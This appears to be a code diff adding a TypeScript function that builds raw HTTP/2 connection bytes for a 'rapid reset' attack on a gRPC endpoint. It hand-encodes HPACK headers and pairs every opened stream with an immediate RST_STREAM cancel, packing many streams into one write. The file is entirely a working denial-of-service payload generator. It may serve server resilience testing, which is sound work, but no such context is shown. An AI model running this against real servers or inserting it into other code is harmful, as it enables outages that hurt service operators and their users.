@@ -1,0 +1,54 @@
+/** HTTP/2 by hand: streams that are opened and reset in one write, which no library sends. */
+const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
+const HEADERS = 1;
+const RST_STREAM = 3;
+const SETTINGS = 4;
+const END_STREAM = 1;
+const END_HEADERS = 4;
+const CANCEL = 8;
+
+function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+function literal(prefix: readonly number[], ...texts: string[]): Buffer {
+  return Buffer.concat([Buffer.from(prefix), ...texts.map((text) => Buffer.from([text.length, ...Buffer.from(text)]))]);
+}
+
+/** POST and http of the static table; path, authority, type and `te` enter the dynamic one with the first request. */
+const firstHeaders = (path: string): Buffer =>
+  Buffer.concat([
+    Buffer.from([0x83, 0x86]),
+    literal([0x44], path),
+    literal([0x41], 'executor'),
+    literal([0x5f], 'application/grpc'),
+    literal([0x40], 'te', 'trailers'),
+  ]);
+const NEXT_HEADERS = Buffer.from([0x83, 0x86, 0xc1, 0xc0, 0xbf, 0xbe]);
+
+/** A connection's bytes: so many streams, each reset before anything of its request arrives. 28 bytes a stream. */
+export function rapidReset(
+  path: string,
+  { streams, endStream = false }: { streams: number; endStream?: boolean },
+): Buffer {
+  const frames = [Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))];
+  const cancel = Buffer.from([0, 0, 0, CANCEL]);
+  for (let index = 0; index < streams; index += 1) {
+    const stream = index * 2 + 1;
+    frames.push(
+      frame(
+        HEADERS,
+        END_HEADERS | (endStream ? END_STREAM : 0),
+        stream,
+        index === 0 ? firstHeaders(path) : NEXT_HEADERS,
+      ),
+    );
+    frames.push(frame(RST_STREAM, 0, stream, cancel));
+  }
+  return Buffer.concat(frames);
+}
